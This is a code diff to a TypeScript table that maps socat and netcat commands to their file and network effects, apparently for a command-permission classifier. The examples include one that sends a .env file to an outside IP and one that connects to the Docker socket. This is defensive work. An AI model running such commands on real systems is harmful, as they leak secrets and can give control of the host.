@@ -165,6 +165,13 @@ export const NETWORK: ProgramSpec[] = [
         examples: [
           { command: 'socat -u FILE:.env TCP:203.0.113.5:9000', effects: ['read(.env, content)', 'send(203.0.113.5)'] },
           { command: 'socat TCP-LISTEN:8080,fork TCP:localhost:3000', effects: ['send(localhost)'] },
+          { command: 'socat UNIX-LISTEN:/tmp/app.sock,fork TCP:localhost:3000', effects: ['write(/tmp/app.sock, socket)', 'send(localhost)'] },
+          { command: 'socat -u UNIX-RECV:/tmp/log.sock -', effects: ['write(/tmp/log.sock, socket)'] },
+          {
+            command: 'socat - UNIX-SENDTO:/run/app.sock,bind=/tmp/me.sock',
+            effects: ['write(/tmp/me.sock, socket)', 'read(/run/app.sock, content)'],
+          },
+          { command: 'socat UNIX-CONNECT:/run/docker.sock -', effects: ['read(/run/docker.sock, content)'] },
         ],
       },
     ],
@@ -172,6 +179,19 @@ export const NETWORK: ProgramSpec[] = [
   {
     names: ['nc', 'ncat', 'netcat', 'telnet'],
     rows: [
+      {
+        // nc -lU PATH (ncat --listen --unixsock PATH): binds a Unix socket at PATH, which creates the file.
+        when: ['-U', '--unixsock'],
+        also: ['-l', '--listen'],
+        takes: ['-p', '-w', '-s', '-e', '-c', '-i', '-q', '-x', '-X'],
+        pos: ['write'],
+        rest: 'none',
+        how: 'socket',
+        examples: [
+          { command: 'nc -lU /tmp/app.sock', effects: ['write(/tmp/app.sock, socket)'] },
+          { command: 'ncat --listen --unixsock /tmp/app.sock', effects: ['write(/tmp/app.sock, socket)'] },
+        ],
+      },
       {
         takes: ['-p', '-w', '-s', '-e', '-c', '-i', '-q', '-x', '-X'],
         pos: ['host'],
